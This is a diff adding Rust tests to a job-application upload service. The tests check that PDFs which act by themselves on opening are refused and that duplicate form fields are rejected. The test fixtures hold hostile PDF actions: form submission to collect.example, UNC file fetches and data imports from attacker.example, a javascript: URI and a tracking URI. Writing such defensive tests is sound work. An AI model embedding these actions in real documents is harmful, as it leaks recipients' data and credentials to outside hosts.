@@ -726,6 +726,31 @@ async fn hostile_or_broken_pdfs_are_refused_on_the_file_field_and_nothing_is_sto
             "fillable form",
         ),
         (
+            "form sent on opening",
+            one_page_pdf("/OpenAction << /S /SubmitForm /F << /FS /URL /F (https://collect.example/) >> >>", "", &[]),
+            "does something by itself when it is opened",
+        ),
+        (
+            "file on another machine (UNC) on opening",
+            one_page_pdf(r"/OpenAction << /S /GoToR /F (\\\\attacker.example\\share\\cv.pdf) /D [0 /Fit] >>", "", &[]),
+            "does something by itself when it is opened",
+        ),
+        (
+            "data imported on opening",
+            one_page_pdf("/OpenAction 4 0 R", "", &[r"<< /S /ImportData /F (\\\\attacker.example\\x.fdf) >>"]),
+            "does something by itself when it is opened",
+        ),
+        (
+            "javascript: address on opening",
+            one_page_pdf("/OpenAction << /S /URI /URI (javascript:app.alert(1)) >>", "", &[]),
+            "does something by itself when it is opened",
+        ),
+        (
+            "page action",
+            one_page_pdf("", "/AA << /O << /S /URI /URI (https://track.example/) >> >>", &[]),
+            "does something by itself when it is opened",
+        ),
+        (
             "encrypted",
             pdf(
                 &[
@@ -757,6 +782,19 @@ async fn hostile_or_broken_pdfs_are_refused_on_the_file_field_and_nothing_is_sto
             started.elapsed()
         );
         assert_nothing_stored(&app, case);
+    }
+}
+
+#[tokio::test]
+async fn a_pdf_opening_on_a_page_view_is_accepted() {
+    for catalog in [
+        "/OpenAction [3 0 R /Fit]",
+        "/OpenAction << /S /GoTo /D [3 0 R /XYZ null null 0] >>",
+    ] {
+        let app = app();
+        let sent = one_page_pdf(catalog, "", &[]);
+        let response = post_application(&app, &with_application(file("cv.pdf", sent))).await;
+        assert_eq!(response.status(), 201, "{catalog}: {}", json(&response));
     }
 }
 
@@ -846,4 +884,20 @@ async fn a_pdf_resume_is_mailed_as_an_application_pdf_attachment() {
         files[0].0
     );
     assert_eq!(files[0].2, resume, "the PDF as sent");
+}
+
+/// Each text field is one string, as the published form says: a second part of the same name
+/// is refused, not taken in place of the first.
+#[tokio::test]
+async fn a_text_field_sent_twice_is_refused_and_nothing_is_stored() {
+    let app = app();
+    let mut parts = with_application(file("cv.png", fixture("resume.png")));
+    parts.push(text("previous_company", "Another Corp"));
+    let response = post_application(&app, &parts).await;
+    assert_eq!(response.status(), 400, "{}", json(&response));
+    assert_eq!(
+        json(&response)["message"],
+        "The field previous_company was sent more than once."
+    );
+    assert_nothing_stored(&app, "a field sent twice");
 }
